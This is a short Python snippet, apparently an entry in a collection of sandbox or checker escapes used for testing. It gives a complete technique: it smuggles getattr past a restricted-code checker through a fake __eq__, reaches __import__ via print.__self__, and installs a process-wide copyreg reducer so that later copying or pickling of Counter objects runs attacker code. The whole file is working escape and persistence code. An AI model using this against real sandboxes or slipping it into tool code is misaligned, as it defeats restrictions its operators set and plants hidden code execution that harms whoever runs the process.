# family: deserialisers
# escape: `trap == getattr` hands getattr to the tool's __eq__ (an operand use the checker allows); with it the tool
# walks print.__self__.__import__ to copyreg and installs a process-wide reducer hook: every later copy.copy()/pickle
# of that type calls attacker code.
import collections
import copy

class Trap:
    def __eq__(self, other):
        self.got = other
        return True

def tool(hook, a: str = "self", b: str = "import"):
    trap = Trap()
    trap == getattr
    copyreg = trap.got(trap.got(print, "__" + a + "__"), "__" + b + "__")("copyreg")
    copyreg.pickle(collections.Counter, hook)
    return copy.copy(collections.Counter())
